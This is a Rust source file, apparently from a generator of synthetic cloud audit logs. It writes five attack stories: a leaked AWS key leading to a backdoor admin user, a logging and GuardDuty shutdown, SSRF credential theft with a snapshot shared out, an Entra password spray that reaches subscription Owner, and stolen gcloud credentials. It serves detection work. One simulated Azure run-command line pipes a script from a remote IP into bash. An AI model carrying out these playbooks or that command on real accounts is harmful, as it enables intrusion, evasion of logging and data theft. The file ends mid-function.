//! The attack stories: each one principal, a bounded time, records in the providers' shapes, and
//! the ids of those records.

use chrono::{DateTime, Timelike, Utc};
use serde_json::{Value, json};

use crate::azure::{self, Caller, Origin, SignIn, User, apps};
use crate::cloudtrail::{self as ct, Call, Who, denied, emit, iam_user, iam_user_key};
use crate::gcp::{self, Entry};
use crate::org::{self, GCP_DATA, PROD, SUB_PROD};
use crate::rng::{Rng, stable_hex, stable_uuid};
use crate::{Ctx, Sink, Story, secs, trunc_secs};

/// Weaves the stories into the scenario, spread over the last two days (or the whole window when
/// it is shorter), the latest a little over an hour before the end.
pub(crate) fn weave(sink: &mut Sink, ctx: &Ctx) -> Vec<Story> {
    let window_h = (ctx.end - ctx.start).num_minutes() as f64 / 60.0;
    let span = (window_h - 0.5).clamp(1.0, 48.0);
    let ago = |hours: f64| {
        let h = hours * span / 48.0;
        trunc_secs(ctx.end - secs(h * 3600.0))
    };
    // Intruders work while their victims sleep: the stories that use a person's credentials
    // start in that person's night (the nearest such time to their slot).
    let berlin = org::person("Dmitri").tz_min;
    let tokyo = org::person("Hiro").tz_min;
    let mut stories = vec![
        leaked_access_key(
            sink,
            ctx,
            night(ago(40.2), ago(46.0), ago(34.0), berlin, 23.0, 6.0),
        ),
        entra_password_spray(
            sink,
            ctx,
            night(ago(30.6), ago(33.0), ago(23.0), berlin, 2.5, 5.0),
        ),
        gcp_stolen_gcloud_token(
            sink,
            ctx,
            night(ago(18.3), ago(21.0), ago(10.0), tokyo, 0.0, 7.0),
        ),
        ec2_credentials_exfiltrated(sink, ctx, ago(7.4)),
        logging_disabled(sink, ctx, ago(1.3)),
    ];
    stories.sort_by_key(|s| s.start);
    stories
}

/// The time nearest to `t`, within `[lo, hi]`, whose local hour (at `tz_min`) is between `from`
/// and `to` (wrapping midnight when `from` > `to`); `t` itself when there is none.
pub(crate) fn night(
    t: DateTime<Utc>,
    lo: DateTime<Utc>,
    hi: DateTime<Utc>,
    tz_min: i32,
    from: f64,
    to: f64,
) -> DateTime<Utc> {
    let inside = |c: DateTime<Utc>| {
        let local = c + chrono::Duration::minutes(i64::from(tz_min));
        let h = f64::from(local.hour()) + f64::from(local.minute()) / 60.0;
        if from <= to {
            h >= from && h < to
        } else {
            h >= from || h < to
        }
    };
    for k in 0..=(24 * 12) {
        for sign in [-1, 1] {
            let c = t + chrono::Duration::minutes(sign * 5 * k);
            if c >= lo && c <= hi && inside(c) {
                return c;
            }
        }
    }
    t
}

/// Collects a story's records as they are written.
pub(crate) struct Tape {
    pub ids: Vec<String>,
    pub first: Option<DateTime<Utc>>,
    pub last: Option<DateTime<Utc>>,
}

impl Tape {
    pub(crate) fn new() -> Tape {
        Tape {
            ids: Vec::new(),
            first: None,
            last: None,
        }
    }
    pub(crate) fn note(&mut self, t: DateTime<Utc>, id: String) {
        self.ids.push(id);
        self.first = Some(self.first.map_or(t, |f| f.min(t)));
        self.last = Some(self.last.map_or(t, |l| l.max(t)));
    }
    pub(crate) fn ct(
        &mut self,
        sink: &mut Sink,
        rng: &mut Rng,
        t: DateTime<Utc>,
        who: &Who,
        c: Call,
    ) {
        let id = emit(sink, rng, t, who, c);
        self.note(trunc_secs(t), id);
    }

    pub(crate) fn story(
        self,
        name: &str,
        summary: &str,
        provider: &'static str,
        principal: String,
        techniques: &[&str],
    ) -> Story {
        let start = self.first.unwrap_or_default();
        Story {
            name: name.to_string(),
            summary: summary.to_string(),
            provider,
            principal,
            start,
            end: self.last.unwrap_or(start),
            techniques: techniques.iter().map(|t| t.to_string()).collect(),
            event_ids: self.ids,
        }
    }
}

pub const LEAK_IP: &str = "45.32.154.91";
pub const BACKDOOR_USER: &str = "backup-svc";

fn kali_cli(command: &str) -> String {
    format!(
        "aws-cli/2.15.17 md/awscrt#0.19.17 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#kali.2024 md/prompt#off md/command#{command}"
    )
}

const SWEEP_REGIONS: &[&str] = &[
    "us-east-1",
    "us-east-2",
    "us-west-1",
    "us-west-2",
    "ca-central-1",
    "sa-east-1",
    "eu-west-1",
    "eu-west-2",
    "eu-west-3",
    "eu-central-1",
    "eu-north-1",
    "ap-south-1",
    "ap-northeast-1",
    "ap-northeast-2",
    "ap-southeast-1",
    "ap-southeast-2",
];
/// The organisation's service control policy denies every region but these.
const ALLOWED_REGIONS: &[&str] = &["us-east-1", "eu-west-1", "eu-central-1"];

/// 1. An engineer's long-lived access key, leaked in a public repository, is used from a VPS:
///    who-am-I, a sweep of every region and service (many denials from the region-lock SCP), then
///    a backdoor administrator with its own access key and console password.
fn leaked_access_key(sink: &mut Sink, ctx: &Ctx, t0: DateTime<Utc>) -> Story {
    let mut rng = Rng::derive(ctx.seed, "story/leaked-access-key");
    let user = org::person("Dmitri").handle();
    let mut tape = Tape::new();
    let who = Who {
        identity: iam_user(PROD, &user).into(),
        account: PROD,
        ip: LEAK_IP.into(),
        ua: String::new(),
        console: false,
        vpce: None,
    };
    let arn = who.arn();
    let mut t = t0;
    let mut call = |tape: &mut Tape,
                    rng: &mut Rng,
                    t: DateTime<Utc>,
                    svc: &'static str,
                    name: &str,
                    region: &'static str,
                    req: Value,
                    deny: bool| {
        let w = who.with_ua(kali_cli(&format!("{svc}.{}", ct::kebab(name))));
        let mut c = Call::new(
            svc,
            name,
            region,
            !name.starts_with("Create") && !name.starts_with("Attach"),
        )
        .req(req);
        if deny {
            let (code, message) = denied(svc, ct::api_action(name), &arn, true);
            c = c.err(&code, message);
        }
        if name == "GetCallerIdentity" && !deny {
            c.resp = json!({"userId": who.identity["principalId"], "account": PROD, "arn": arn});
        }
        tape.ct(sink, rng, t, &w, c);
    };
    let region = "eu-west-1";
    call(
        &mut tape,
        &mut rng,
        t,
        "sts",
        "GetCallerIdentity",
        region,
        Value::Null,
        false,
    );
    let recon: &[(&'static str, &str, Value, bool)] = &[
        ("iam", "GetUser", Value::Null, false),
        (
            "iam",
            "ListAttachedUserPolicies",
            json!({"userName": user}),
            false,
        ),
        ("iam", "ListUserPolicies", json!({"userName": user}), false),
        ("iam", "ListGroupsForUser", json!({"userName": user}), false),
        ("iam", "GetAccountSummary", Value::Null, false),
        ("iam", "ListUsers", Value::Null, false),
        ("iam", "ListRoles", Value::Null, false),
        (
            "iam",
            "ListPolicies",
            json!({"scope": "Local", "onlyAttached": false}),
            false,
        ),
        ("iam", "ListAccessKeys", json!({"userName": user}), false),
        ("iam", "GetAccountAuthorizationDetails", Value::Null, false),
        ("organizations", "DescribeOrganization", Value::Null, true),
        ("organizations", "ListAccounts", Value::Null, true),
        (
            "s3",
            "ListBuckets",
            json!({"Host": "s3.amazonaws.com"}),
            false,
        ),
        (
            "ec2",
            "DescribeRegions",
            json!({"regionSet": {}, "allRegions": true}),
            false,
        ),
    ];
    for (svc, name, req, deny) in recon {
        t += secs(1.5 + rng.exp(2.0));
        call(
            &mut tape,
            &mut rng,
            t,
            svc,
            name,
            region,
            req.clone(),
            *deny,
        );
    }
    for bucket in [
        "ridgeline-prod-backups",
        "ridgeline-prod-uploads",
        "ridgeline-tfstate-prod",
    ] {
        for name in ["GetBucketPolicy", "GetBucketAcl"] {
            t += secs(1.0 + rng.exp(1.5));
            let req = json!({"bucketName": bucket, "Host": format!("{bucket}.s3.eu-west-1.amazonaws.com"), name.trim_start_matches("GetBucket").to_ascii_lowercase(): ""});
            call(&mut tape, &mut rng, t, "s3", name, region, req, false);
        }
    }
    // The region sweep.
    for r in SWEEP_REGIONS {
        let deny = !ALLOWED_REGIONS.contains(r);
        t += secs(1.0 + rng.exp(1.0));
        call(
            &mut tape,
            &mut rng,
            t,
            "ec2",
            "DescribeInstances",
            r,
            json!({"instancesSet": {}, "filterSet": {}}),
            deny,
        );
        t += secs(0.8 + rng.exp(1.0));
        call(
            &mut tape,
            &mut rng,
            t,
            "lambda",
            "ListFunctions20150331",
            r,
            Value::Null,
            deny,
        );
    }
    let more: &[(&'static str, &str, Value)] = &[
        (
            "ec2",
            "DescribeSnapshots",
            json!({"ownersSet": {"items": [{"owner": "self"}]}, "filterSet": {}}),
        ),
        (
            "ec2",
            "DescribeVolumes",
            json!({"volumeSet": {}, "filterSet": {}}),
        ),
        (
            "ec2",
            "DescribeSecurityGroups",
            json!({"securityGroupSet": {}, "filterSet": {}}),
        ),
        (
            "ec2",
            "DescribeImages",
            json!({"ownersSet": {"items": [{"owner": "self"}]}}),
        ),
        ("ec2", "DescribeKeyPairs", json!({"keySet": {}})),
        ("rds", "DescribeDBInstances", Value::Null),
        ("secretsmanager", "ListSecrets", Value::Null),
        ("kms", "ListKeys", Value::Null),
        (
            "cloudtrail",
            "DescribeTrails",
            json!({"includeShadowTrails": true}),
        ),
        (
            "cloudtrail",
            "GetTrailStatus",
            json!({"name": format!("arn:aws:cloudtrail:eu-west-1:{PROD}:trail/prod-account-trail")}),
        ),
        ("guardduty", "ListDetectors", Value::Null),
        ("dynamodb", "ListTables", Value::Null),
        ("sns", "ListTopics", Value::Null),
        ("sqs", "ListQueues", Value::Null),
        ("ecr", "DescribeRepositories", Value::Null),
        ("ecs", "ListClusters", Value::Null),
    ];
    for (svc, name, req) in more {
        t += secs(1.2 + rng.exp(1.5));
        call(
            &mut tape,
            &mut rng,
            t,
            svc,
            name,
            region,
            req.clone(),
            false,
        );
    }
    // Persistence: a new administrator with its own key and a console password.
    t += secs(60.0 * (6.0 + 3.0 * rng.unit()));
    let new_arn = format!("arn:aws:iam::{PROD}:user/{BACKDOOR_USER}");
    let create_date = ct::ct_time(t);
    let w = who.with_ua(kali_cli("iam.create-user"));
    tape.ct(sink, &mut rng, t, &w, Call::new("iam", "CreateUser", region, false)
        .req(json!({"userName": BACKDOOR_USER}))
        .resp(json!({"user": {"path": "/", "userName": BACKDOOR_USER, "userId": format!("AIDA{}", crate::rng::aws_id(&format!("user/{PROD}/{BACKDOOR_USER}"), 17)), "arn": new_arn, "createDate": create_date}})));
    t += secs(20.0 + 15.0 * rng.unit());
    let w = who.with_ua(kali_cli("iam.attach-user-policy"));
    tape.ct(sink, &mut rng, t, &w, Call::new("iam", "AttachUserPolicy", region, false)
        .req(json!({"userName": BACKDOOR_USER, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})));
    t += secs(15.0 + 15.0 * rng.unit());
    let w = who.with_ua(kali_cli("iam.create-access-key"));
    tape.ct(sink, &mut rng, t, &w, Call::new("iam", "CreateAccessKey", region, false)
        .req(json!({"userName": BACKDOOR_USER}))
        .resp(json!({"accessKey": {"userName": BACKDOOR_USER, "accessKeyId": iam_user_key(PROD, BACKDOOR_USER), "status": "Active", "createDate": ct::ct_time(t)}})));
    t += secs(25.0 + 20.0 * rng.unit());
    let w = who.with_ua(kali_cli("iam.create-login-profile"));
    tape.ct(sink, &mut rng, t, &w, Call::new("iam", "CreateLoginProfile", region, false)
        .req(json!({"userName": BACKDOOR_USER, "passwordResetRequired": false}))
        .resp(json!({"loginProfile": {"userName": BACKDOOR_USER, "createDate": ct::ct_time(t), "passwordResetRequired": false}})));
    // The new key works.
    t += secs(70.0 + 30.0 * rng.unit());
    let backdoor = Who {
        identity: iam_user(PROD, BACKDOOR_USER).into(),
        ua: kali_cli("sts.get-caller-identity"),
        ..who.clone()
    };
    tape.ct(
        sink,
        &mut rng,
        t,
        &backdoor,
        Call::new("sts", "GetCallerIdentity", region, true).resp(
            json!({"userId": backdoor.identity["principalId"], "account": PROD, "arn": new_arn}),
        ),
    );
    tape.story(
        "aws-leaked-access-key",
        "Dmitri Volkov's long-lived IAM access key (prod) is used from a VPS never seen before, with the AWS CLI on Kali Linux: \
         GetCallerIdentity, then a four-minute sweep of IAM, S3, every region's EC2 and Lambda and a dozen other services \
         (denied outside the three regions the SCP allows), then a new IAM user 'backup-svc' with AdministratorAccess, \
         an access key and a console password.",
        "aws",
        arn,
        &["T1078.004", "T1087.004", "T1580", "T1136.003", "T1098.003", "T1098.001"],
    )
}

/// 2. The backdoor user comes back from another VPS and blinds the prod account: CloudTrail
///    trail stopped, GuardDuty detectors deleted, AWS Config stopped, VPC flow logs deleted.
fn logging_disabled(sink: &mut Sink, ctx: &Ctx, t0: DateTime<Utc>) -> Story {
    let mut rng = Rng::derive(ctx.seed, "story/logging-disabled");
    let mut tape = Tape::new();
    let who = Who {
        identity: iam_user(PROD, BACKDOOR_USER).into(),
        account: PROD,
        ip: "149.28.57.203".into(),
        ua: "Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux#5.15.0-105-generic md/arch#x86_64 lang/python#3.10.12 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.51".into(),
        console: false,
        vpce: None,
    };
    let region = "eu-west-1";
    let trail = format!("arn:aws:cloudtrail:eu-west-1:{PROD}:trail/prod-account-trail");
    let mut t = t0;
    let mut step = |rng: &mut Rng, lo: f64, hi: f64| {
        t += secs(lo + (hi - lo) * rng.unit());
        t
    };
    let s = step(&mut rng, 0.0, 0.0);
    tape.ct(
        sink,
        &mut rng,
        s,
        &who,
        Call::new("sts", "GetCallerIdentity", region, true).resp(
            json!({"userId": who.identity["principalId"], "account": PROD, "arn": who.arn()}),
        ),
    );
    let s = step(&mut rng, 20.0, 40.0);
    tape.ct(
        sink,
        &mut rng,
        s,
        &who,
        Call::new("cloudtrail", "DescribeTrails", region, true)
            .req(json!({"includeShadowTrails": false})),
    );
    let s = step(&mut rng, 3.0, 8.0);
    tape.ct(
        sink,
        &mut rng,
        s,
        &who,
        Call::new("cloudtrail", "GetTrailStatus", region, true).req(json!({"name": trail})),
    );
    let s = step(&mut rng, 10.0, 25.0);
    tape.ct(
        sink,
        &mut rng,
        s,
        &who,
        Call::new("cloudtrail", "StopLogging", region, false).req(json!({"name": trail})),
    );
    for r in ["eu-west-1", "us-east-1"] {
        let detector = stable_hex(&format!("gd{PROD}{r}"), 32);
        let s = step(&mut rng, 20.0, 60.0);
        tape.ct(
            sink,
            &mut rng,
            s,
            &who,
            Call::new("guardduty", "ListDetectors", region_static(r), true)
                .resp(json!({"detectorIds": [detector]})),
        );
        let s = step(&mut rng, 3.0, 9.0);
        tape.ct(
            sink,
            &mut rng,
            s,
            &who,
            Call::new("guardduty", "DeleteDetector", region_static(r), false)
                .req(json!({"detectorId": detector})),
        );
    }
    let s = step(&mut rng, 40.0, 90.0);
    tape.ct(
        sink,
        &mut rng,
        s,
        &who,
        Call::new("config", "DescribeConfigurationRecorders", region, true),
    );
    let s = step(&mut rng, 4.0, 10.0);
    tape.ct(
        sink,
        &mut rng,
        s,
        &who,
        Call::new("config", "StopConfigurationRecorder", region, false)
            .req(json!({"configurationRecorderName": "default"})),
    );
    let s = step(&mut rng, 60.0, 150.0);
    tape.ct(
        sink,
        &mut rng,
        s,
        &who,
        Call::new("ec2", "DescribeFlowLogs", region, true)
            .req(json!({"DescribeFlowLogsRequest": {}})),
    );
    let flow_log = format!("fl-{}", stable_hex("flowlog-prod-vpc", 17));
    let s = step(&mut rng, 5.0, 12.0);
    let request_id = rng.uuid();
    tape.ct(sink, &mut rng, s, &who, Call::new("ec2", "DeleteFlowLogs", region, false)
        .req(json!({"DeleteFlowLogsRequest": {"FlowLogId": {"content": flow_log, "tag": 1}}}))
        .resp(json!({"DeleteFlowLogsResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/", "requestId": request_id, "unsuccessful": ""}})));
    tape.story(
        "aws-logging-disabled",
        "The backdoor IAM user 'backup-svc' created by the leaked key returns from another VPS with a Python script and \
         blinds the prod account: the account's CloudTrail trail is stopped, the GuardDuty detectors of two regions \
         are deleted, the AWS Config recorder is stopped and the VPC flow logs are deleted.",
        "aws",
        who.arn(),
        &["T1078.004", "T1562.008", "T1562.001"],
    )
}

fn region_static(r: &str) -> &'static str {
    SWEEP_REGIONS
        .iter()
        .copied()
        .find(|x| *x == r)
        .unwrap_or("eu-west-1")
}

/// 3. An SSRF in the monolith hands the app server's instance-profile credentials to an
///    attacker, who uses them from outside AWS (two addresses), explores, snapshots the legacy
///    database's volume and shares the snapshot with their own AWS account.
fn ec2_credentials_exfiltrated(sink: &mut Sink, ctx: &Ctx, t0: DateTime<Utc>) -> Story {
    let mut rng = Rng::derive(ctx.seed, "story/ec2-credentials");
    let mut tape = Tape::new();
    let instance = org::APP_SERVERS[0];
    let stolen = crate::aws::instance_who(instance, t0 - secs(240.0));
    let ubuntu_cli = |command: &str| {
        format!(
            "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#5.15.0-105-generic md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.22 md/prompt#off md/command#{command}"
        )
    };
    let mut who = Who {
        ip: "167.99.142.38".into(),
        ..stolen
    };
    let arn = who.arn();
    let region = "eu-west-1";
    let mut t = t0;
    let steps: &[(&'static str, &str, Value, bool)] = &[
        ("sts", "GetCallerIdentity", Value::Null, false),
        (
            "s3",
            "ListBuckets",
            json!({"Host": "s3.amazonaws.com"}),
            false,
        ),
        ("iam", "ListRoles", Value::Null, true),
        (
            "iam",
            "ListAttachedRolePolicies",
            json!({"roleName": "app-server-role"}),
            true,
        ),
        (
            "ec2",
            "DescribeInstances",
            json!({"instancesSet": {}, "filterSet": {}}),
            false,
        ),
        ("secretsmanager", "ListSecrets", Value::Null, true),
        ("rds", "DescribeDBInstances", Value::Null, true),
        (
            "ec2",
            "DescribeVolumes",
            json!({"volumeSet": {}, "filterSet": {}}),
            false,
        ),
        (
            "ec2",
            "DescribeSnapshots",
            json!({"ownersSet": {"items": [{"owner": "self"}]}, "filterSet": {}}),
            false,
        ),
    ];
    for (svc, name, req, deny) in steps {
        let w = who.with_ua(ubuntu_cli(&format!("{svc}.{}", ct::kebab(name))));
        let mut c = Call::new(svc, name, region, true).req(req.clone());
        if *deny {
            let (code, message) = denied(svc, name, &arn, false);
            c = c.err(&code, message);
        }
        if *name == "GetCallerIdentity" {
            c.resp = json!({"userId": who.identity["principalId"], "account": PROD, "arn": arn});
        }
        tape.ct(sink, &mut rng, t, &w, c);
        t += secs(8.0 + rng.exp(25.0));
    }
    // A VPN hop: the same key from a second address.
    who.ip = "159.65.201.17".into();
    t += secs(300.0 + 200.0 * rng.unit());
    let snap = format!("snap-{}", stable_hex("story/snapshot", 17));
    let w = who.with_ua(ubuntu_cli("ec2.create-snapshot"));
    tape.ct(sink, &mut rng, t, &w, Call::new("ec2", "CreateSnapshot", region, false)
        .req(json!({"volumeId": org::LEGACY_DB_VOLUME, "description": "db-backup"}))
        .resp(json!({"snapshotId": snap, "volumeId": org::LEGACY_DB_VOLUME, "status": "pending", "volumeSize": 200, "encrypted": false, "startTime": ct::ct_time(t)})));
    for _ in 0..3 {
        t += secs(50.0 + 30.0 * rng.unit());
        let w = who.with_ua(ubuntu_cli("ec2.describe-snapshots"));
        tape.ct(
            sink,
            &mut rng,
            t,
            &w,
            Call::new("ec2", "DescribeSnapshots", region, true)
                .req(json!({"snapshotSet": {"items": [{"snapshotId": snap}]}, "filterSet": {}})),
        );
    }
    t += secs(20.0 + 20.0 * rng.unit());
    let w = who.with_ua(ubuntu_cli("ec2.modify-snapshot-attribute"));
    tape.ct(sink, &mut rng, t, &w, Call::new("ec2", "ModifySnapshotAttribute", region, false)
        .req(json!({"snapshotId": snap, "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": {"add": {"items": [{"userId": "937462150813"}]}}}))
        .resp(json!({"_return": true})));
    t += secs(6.0 + 6.0 * rng.unit());
    let w = who.with_ua(ubuntu_cli("ec2.describe-snapshot-attribute"));
    tape.ct(
        sink,
        &mut rng,
        t,
        &w,
        Call::new("ec2", "DescribeSnapshotAttribute", region, true)
            .req(json!({"snapshotId": snap, "attribute": "createVolumePermission"})),
    );
    tape.story(
        "aws-ec2-credentials-exfiltrated",
        "The app server's instance-profile credentials (stolen through an SSRF to the metadata service) are used \
         from outside AWS, first from one address then from another: caller identity, buckets, instances, volumes \
         and snapshots (IAM, Secrets Manager and RDS denied), then a snapshot of the legacy database volume is \
         created and shared with an unknown AWS account (937462150813).",
        "aws",
        arn,
        &["T1552.005", "T1078.004", "T1580", "T1537"],
    )
}

pub const SPRAY_IP: &str = "185.156.73.54";

/// 4. A password spray against the Entra ID tenant through the ROPC flow; it finds the
///    MFA-excluded automation account, which registers an application with a secret and makes
///    its service principal Owner of the prod subscription; the new principal lists storage
///    keys and runs a command on a VM.
fn entra_password_spray(sink: &mut Sink, ctx: &Ctx, t0: DateTime<Utc>) -> Story {
    let mut rng = Rng::derive(ctx.seed, "story/entra-spray");
    let mut tape = Tape::new();
    let victim = azure::automation_user();
    let origin = Origin {
        ip: SPRAY_IP.into(),
        city: "Bucharest",
        state: "Bucuresti",
        country: "RO",
        lat: 44.4268,
        lon: 26.1025,
        named_location: None,
    };
    let no_device = json!({"deviceId": "", "operatingSystem": "", "browser": "Python Requests 2.31", "isCompliant": false, "isManaged": false});
    let mut targets: Vec<User> = org::PEOPLE.iter().map(User::of).collect();
    for guess in ["admin", "it.support", "info", "j.smith", "test", "hr"] {
        targets.push(User::named(&format!("{guess}@{}", org::DOMAIN), ""));
    }
    // Deterministic shuffle, the automation account near the end.
    for i in (1..targets.len()).rev() {
        let j = rng.below(i + 1);
        targets.swap(i, j);
    }
    let at = targets.len() - 3;
    targets.insert(at, victim.clone());
    let mut t = t0;
    for target in &targets {
        let exists = !target.display.is_empty();
        let (code, reason) = if target.upn == victim.upn {
            (0, "")
        } else if exists {
            (
                50126,
                "Invalid username or password or Invalid on-premise username or password.",
            )
        } else {
            (
                50034,
                "The user account does not exist in the directory. To sign into this application, the account must be added to the directory.",
            )
        };
        let s = SignIn {
            t,
            user: User {
                display: if exists {
                    target.display.clone()
                } else {
                    target.upn.clone()
                },
                ..target.clone()
            },
            app: apps::AAD_POWERSHELL,
            resource: apps::GRAPH,
            origin: origin.clone(),
            ua: "python-requests/2.31.0".into(),
            client_app: "Mobile Apps and Desktop clients",
            interactive: true,
            mfa: false,
            code,
            reason,
            session: if code == 0 {
                stable_uuid("story/spray-session")
            } else {
                String::new()
            },
            device: no_device.clone(),
            risk: if code == 0 {
                Some((
                    "high",
                    "atRisk",
                    vec!["passwordSpray", "unfamiliarFeatures"],
                ))
            } else {
                None
            },
            protocol: "ropc",
            correlation: rng.uuid(),
        };
        let id = azure::sign_in(sink, &mut rng, s);
        tape.note(t, id);
        t += secs(35.0 + 40.0 * rng.unit());
    }
    // The attacker logs in with the Azure CLI (ROPC again) and gets to work.
    t += secs(180.0 + 120.0 * rng.unit());
    let cli_ua =
        "python/3.11.2 (Linux-6.6.9-amd64-x86_64-with-glibc2.36) msal/1.28.0 azure-cli/2.60.0";
    let s = SignIn {
        t,
        user: victim.clone(),
        app: apps::AZ_CLI,
        resource: apps::ARM,
        origin: origin.clone(),
        ua: cli_ua.into(),
        client_app: "Mobile Apps and Desktop clients",
        interactive: true,
        mfa: false,
        code: 0,
        reason: "",
        session: stable_uuid("story/spray-session"),
        device: json!({"deviceId": "", "operatingSystem": "Linux", "isCompliant": false, "isManaged": false}),
        risk: Some(("medium", "atRisk", vec!["unfamiliarFeatures"])),
        protocol: "ropc",
        correlation: rng.uuid(),
    };
    let id = azure::sign_in(sink, &mut rng, s);
    tape.note(t, id);
    let app_name = "ridgeline-backup-sync";
    let app_object = stable_uuid("story/app-object");
    let app_id = stable_uuid("story/app-id");
    let sp_object = stable_uuid(&format!("sp/{app_id}"));
    t += secs(150.0 + 60.0 * rng.unit());
    let graph_ua = "azure-cli/2.60.0 (Linux) msgraph";
    let id = azure::audit(
        sink,
        &mut rng,
        t,
        &victim,
        SPRAY_IP,
        "Add application",
        "ApplicationManagement",
        "Add",
        json!([{"id": app_object, "displayName": app_name, "type": "Application", "modifiedProperties": [
            {"displayName": "AppId", "oldValue": "[]", "newValue": format!("[\"{app_id}\"]")},
            {"displayName": "DisplayName", "oldValue": "[]", "newValue": format!("[\"{app_name}\"]")}]}]),
        graph_ua,
    );
    tape.note(t, id);
    t += secs(8.0 + 6.0 * rng.unit());
    let id = azure::audit(
        sink,
        &mut rng,
        t,
        &victim,
        SPRAY_IP,
        "Add service principal",
        "ApplicationManagement",
        "Add",
        json!([{"id": sp_object, "displayName": app_name, "type": "ServicePrincipal", "modifiedProperties": [
            {"displayName": "AppPrincipalId", "oldValue": "[]", "newValue": format!("[\"{app_id}\"]")}]}]),
        graph_ua,
    );
    tape.note(t, id);
    t += secs(30.0 + 20.0 * rng.unit());
    let key_id = stable_uuid("story/app-secret");
    let id = azure::audit(
        sink,
        &mut rng,
        t,
        &victim,
        SPRAY_IP,
        "Update application – Certificates and secrets management ",
        "ApplicationManagement",
        "Update",
        json!([{"id": app_object, "displayName": app_name, "type": "Application", "modifiedProperties": [
            {"displayName": "KeyDescription", "oldValue": "[]", "newValue": format!("[\"[KeyIdentifier={key_id},KeyType=Password,KeyUsage=Verify,DisplayName=sync]\"]")},
            {"displayName": "Included Updated Properties", "oldValue": null, "newValue": "\"KeyDescription\""}]}]),
        graph_ua,
    );
    tape.note(t, id);
    // The new service principal becomes Owner of the prod subscription.
    t += secs(150.0 + 60.0 * rng.unit());
    let assignment = stable_uuid("story/role-assignment");
    let scope = format!("/subscriptions/{SUB_PROD}");
    let body = json!({"Id": assignment, "Properties": {
        "PrincipalId": sp_object, "PrincipalType": "ServicePrincipal",
        "RoleDefinitionId": format!("/subscriptions/{SUB_PROD}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635"),
        "Scope": scope, "Condition": null, "ConditionVersion": null}}).to_string();
    let caller = Caller::User {
        user: victim.clone(),
        ip: SPRAY_IP.into(),
        app: apps::AZ_CLI.0,
        role: "User Access Administrator",
    };
    for (id, at) in azure::operation(
        sink,
        &mut rng,
        t,
        &caller,
        SUB_PROD,
        "",
        &format!("Microsoft.Authorization/roleAssignments/{assignment}"),
        "Microsoft.Authorization/roleAssignments/write",
        "Success",
        Some(json!({"requestbody": body})),
    ) {
        tape.note(at, id);
    }
    // The service principal, with its secret, from the same address.
    t += secs(300.0 + 120.0 * rng.unit());
    let id = azure::sp_sign_in_from(
        sink,
        &mut rng,
        t,
        app_name,
        &app_id,
        SPRAY_IP,
        "clientSecret",
        ("Bucharest", "Bucuresti", "RO"),
    );
    tape.note(t, id);
    let sp = Caller::App {
        app_id: app_id.clone(),
        ip: SPRAY_IP.into(),
        role: "Owner",
    };
    t += secs(40.0 + 30.0 * rng.unit());
    for (id, at) in azure::operation(
        sink,
        &mut rng,
        t,
        &sp,
        SUB_PROD,
        "rg-data",
        "Microsoft.Storage/storageAccounts/stridgelineprod",
        "Microsoft.Storage/storageAccounts/listKeys/action",
        "Success",
        None,
    ) {
        tape.note(at, id);
    }
    t += secs(120.0 + 60.0 * rng.unit());
    for (id, at) in azure::operation(
        sink,
        &mut rng,
        t,
        &sp,
        SUB_PROD,
        "rg-build",
        "Microsoft.Compute/virtualMachines/vm-build-01",
        "Microsoft.Compute/virtualMachines/runCommand/action",
        "Success",
        Some(
            json!({"requestbody": "{\"commandId\":\"RunShellScript\",\"script\":[\"curl -s http://185.156.73.54/s.sh | bash\"]}"}),
        ),
    ) {
        tape.note(at, id);
    }
    tape.story(
        "azure-password-spray-to-owner",
        "A password spray from one address through the ROPC flow tries some thirty accounts of the tenant (existing and \
         guessed); it finds svc-automation, a maintenance account excluded from MFA. With it the attacker registers an \
         application, adds a client secret, makes its service principal Owner of the prod subscription, then signs \
         in as that principal, lists the storage account keys and runs a shell command on the build VM.",
        "azure",
        victim.upn,
        &["T1110.003", "T1078.004", "T1098.001", "T1098.003", "T1651"],
    )
}

pub const GCP_ATTACK_IP: &str = "159.223.44.182";
pub const GCP_BACKDOOR: &str = "ridgeline.backup.ops@gmail.com";

/// 5. Hiro's gcloud credentials (stolen by an infostealer) are used from a VPS: IAM policy and
///    service accounts listed, a key created for the ETL service account, which then grants
///    roles/owner to a personal Gmail account and reads the curated data lake.
fn gcp_stolen_gcloud_token(sink: &mut Sink, ctx: &Ctx, t0: DateTime<Utc>) -> Story {
    let mut rng = Rng::derive(ctx.seed, "story/gcp-token");
    let mut tape = Tape::new();
    let hiro = org::person("Hiro").email();
    let etl = gcp::sa("etl-runner", GCP_DATA);
    let ip = GCP_ATTACK_IP;
    let mut t = t0;
    let mut put = |tape: &mut Tape, rng: &mut Rng, e: Entry| {
        let t = e.t;
        let id = gcp::entry(sink, rng, e);
        tape.note(t, id);
    };
    let mut e = Entry::new(
        t,
        GCP_DATA,
        &hiro,
        ip,
        &gcp::gcloud_ua("projects.get-iam-policy"),
        "cloudresourcemanager.googleapis.com",
        "GetIamPolicy",
    );
    e.permission = "resourcemanager.projects.getIamPolicy";
    put(&mut tape, &mut rng, e);
    t += secs(20.0 + 20.0 * rng.unit());
    let mut e = Entry::new(
        t,
        GCP_DATA,
        &hiro,
        ip,
        &gcp::gcloud_ua("iam.service-accounts.list"),
        "iam.googleapis.com",
        "google.iam.admin.v1.ListServiceAccounts",
    );
    e.resource_type = "service_account";
    e.labels = json!({"project_id": GCP_DATA, "email_id": "", "unique_id": ""});
    e.permission = "iam.serviceAccounts.list";
    put(&mut tape, &mut rng, e);
    t += secs(30.0 + 30.0 * rng.unit());
    let mut e = Entry::new(
        t,
        GCP_DATA,
        &hiro,
        ip,
        &gcp::gcloud_ua("projects.add-iam-policy-binding"),
        "cloudresourcemanager.googleapis.com",
        "SetIamPolicy",
    );
    e.log = "activity";
    e.permission = "resourcemanager.projects.setIamPolicy";
    e.denied = true;
    put(&mut tape, &mut rng, e);
    t += secs(60.0 + 60.0 * rng.unit());
    let key_id = stable_hex("story/sa-key", 40);
